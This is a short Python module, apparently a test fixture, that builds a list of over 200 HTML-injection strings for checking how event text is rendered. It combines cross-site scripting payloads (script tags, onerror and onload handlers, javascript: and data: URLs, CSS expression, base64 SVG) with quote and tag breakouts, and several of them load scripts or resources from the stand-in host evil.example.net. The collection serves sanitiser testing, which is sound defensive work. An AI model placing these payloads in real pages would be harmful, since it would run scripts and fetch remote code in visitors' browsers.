"""What an event may carry to harm who looks at it: HTML that runs, loads or hides, in many disguises."""

from __future__ import annotations

import base64

__all__ = ["PAYLOADS"]

_SVG = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>').decode()

_ACTIVE = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example.net/x.js></SCRIPT>", "<script\n>alert(1)</script\n>",
    "<scr\0ipt>alert(1)</scr\0ipt><script>alert(1)</script>", '<img alt="a" src=x onerror=alert(1)>',
    '<img alt="a" src=x oNeRrOr="alert(1)">', '<img alt=">" src=x onerror=alert(1)>', "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)>", "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>", '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>', '<a href=" &#106;avascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>', '<iframe src="x"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x"></object>', '<embed src="x">', '<form action="x"><input></form>',
    '<meta http-equiv="refresh" content="0">', '<link rel="stylesheet" href="x">', '<base href="x">',
    "<style>@import 'x';</style>", '<div style="background:url(//evil.example.net/x)">x</div>',
    '<div style="width:expression(alert(1))">x</div>', '<img alt="a" src="http://evil.example.net/x.png">',
    '<img alt="a" src="//evil.example.net/x.png">', '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<video poster="//evil.example.net/x"></video>', '<table background="//evil.example.net/x"></table>',
    f'<img alt="a" src="data:image/svg+xml;base64,{_SVG}">', '<button formaction="javascript:alert(1)">x</button>',
    '<math href="javascript:alert(1)">x</math>',
]
_AROUND = ["{}", "OrderPlaced {}", '"> {}', "'> {}", "</td></table> {}", "--> {}"]

PAYLOADS = [around.replace("{}", active) for active in _ACTIVE for around in _AROUND]
"""At least 200 strings. Each, put into a page as it is, would run, fetch or hide something."""
